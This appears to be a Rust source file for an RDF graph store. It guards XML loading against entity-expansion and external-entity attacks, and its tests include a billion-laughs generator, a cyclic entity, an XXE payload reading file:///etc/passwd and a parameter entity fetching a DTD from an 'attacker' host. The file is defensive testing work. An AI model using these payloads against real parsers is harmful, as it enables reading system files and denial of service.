//! RDF/XML guard for `load`: entity declarations are checked before any
//! parser expands them.

use anyhow::{bail, Result};

/// Refuse an XML document whose internal DTD declares entities that expand
/// beyond `limit` bytes (the "billion laughs": each entity ten of the one
/// before) or refer to themselves, before any parser expands them. `head` is
/// the start of the document, where the DTD must be.
pub(super) fn check_entities(head: &str, limit: usize) -> Result<()> {
    use std::collections::HashMap;
    let Some(dtd_start) = head.find("<!DOCTYPE") else {
        return Ok(());
    };
    let dtd = &head[dtd_start..];
    let mut values: HashMap<&str, &str> = HashMap::new();
    let mut rest = dtd;
    while let Some(at) = rest.find("<!ENTITY") {
        rest = &rest[at + "<!ENTITY".len()..];
        // A parameter entity (`<!ENTITY % name …>`) is named after the `%`.
        let declared = rest.trim_start();
        let declared = declared.strip_prefix('%').map_or(declared, str::trim_start);
        let mut parts = declared.splitn(2, char::is_whitespace);
        let (Some(name), Some(after)) = (parts.next(), parts.next()) else {
            break;
        };
        let after = after.trim_start();
        let Some(quote) = after.chars().next().filter(|c| *c == '"' || *c == '\'') else {
            bail!(
                "XML entity {}: external entities are not loaded",
                crate::text::printable(name)
            );
        };
        let Some(end) = after[1..].find(quote) else {
            break;
        };
        values.insert(name, &after[1..1 + end]);
        rest = &after[1 + end..];
    }
    // Expanded sizes, memoised; a cycle or a size over the limit is refused.
    fn size<'a>(
        name: &'a str,
        values: &HashMap<&'a str, &'a str>,
        memo: &mut HashMap<&'a str, Option<usize>>,
        limit: usize,
    ) -> Result<usize> {
        match memo.get(name) {
            Some(Some(n)) => return Ok(*n),
            Some(None) => bail!(
                "XML entity {} refers to itself",
                crate::text::printable(name)
            ),
            None => {}
        }
        let Some(value) = values.get(name) else {
            return Ok(0);
        };
        memo.insert(name, None);
        let mut total = value.len();
        let mut rest: &'a str = value;
        while let Some(at) = rest.find('&') {
            let Some(end) = rest[at..].find(';') else {
                break;
            };
            let inner = &rest[at + 1..at + end];
            if !inner.starts_with('#') {
                total = total.saturating_add(size(inner, values, memo, limit)?);
            }
            if total > limit {
                bail!(
                    "XML entity {} expands to more than {limit} bytes: not loaded",
                    crate::text::printable(name)
                );
            }
            rest = &rest[at + end + 1..];
        }
        memo.insert(name, Some(total));
        Ok(total)
    }
    let mut memo = HashMap::new();
    for name in values.keys() {
        size(name, &values, &mut memo, limit)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use crate::store::{GraphStore, MAX_LITERAL_BYTES};
    use oxigraph::io::RdfFormat;

    /// An RDF/XML "billion laughs": `levels` entities, each ten of the one before.
    fn laughs(levels: usize) -> String {
        let mut dtd = String::from("<!ENTITY e0 \"lol\">\n");
        for i in 1..levels {
            let refs = format!("&e{};", i - 1).repeat(10);
            dtd.push_str(&format!("<!ENTITY e{i} \"{refs}\">\n"));
        }
        format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rdf:RDF [\n{dtd}]>\n\
             <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns:ex=\"http://example.org/\">\n\
             <rdf:Description rdf:about=\"http://example.org/a\"><ex:p>&e{};</ex:p></rdf:Description>\n</rdf:RDF>\n",
            levels - 1
        )
    }

    #[test]
    fn entity_expansion_and_huge_literals_are_refused_and_nothing_is_loaded() {
        let store = GraphStore::in_memory().unwrap();
        let refused = |xml: &str| {
            format!(
                "{:#}",
                store.load(RdfFormat::RdfXml, xml.as_bytes()).unwrap_err()
            )
        };
        // Small expansions load as usual.
        store.load(RdfFormat::RdfXml, laughs(2).as_bytes()).unwrap();
        assert_eq!(store.quad_count().unwrap(), 1);
        // Nine levels would be 3 GB in memory: refused before parsing.
        let started = std::time::Instant::now();
        let err = refused(&laughs(9));
        assert!(err.contains("expands to more than"), "{err}");
        assert!(started.elapsed().as_secs() < 2);
        let cyclic =
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r/>";
        let err = refused(cyclic);
        assert!(err.contains("refers to itself"), "{err}");
        let external =
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r/>";
        let err = refused(external);
        assert!(err.contains("external entities"), "{err}");
        let parameter = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://attacker/x.dtd\"> %pe;]><r/>";
        let err = refused(parameter);
        assert!(err.contains("entity pe: external entities"), "{err}");
        // A literal over the limit: the whole file is refused, atomically.
        let big = format!(
            "<http://example.org/b> <http://example.org/p> \"{}\" .\n",
            "x".repeat(MAX_LITERAL_BYTES + 1)
        );
        let doc = format!("<http://example.org/c> <http://example.org/p> \"ok\" .\n{big}");
        let err = format!(
            "{:#}",
            store.load(RdfFormat::NTriples, doc.as_bytes()).unwrap_err()
        );
        assert!(err.contains("over the limit"), "{err}");
        assert_eq!(
            store.quad_count().unwrap(),
            1,
            "nothing of a refused file stays"
        );
    }
}
